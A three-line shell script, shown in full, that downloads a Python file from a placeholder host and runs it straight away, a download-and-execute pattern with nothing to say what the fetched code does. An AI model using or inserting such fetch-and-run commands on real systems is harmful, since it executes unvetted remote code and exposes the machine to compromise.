#!/bin/sh
wget https://x.example/x.py
python x.py
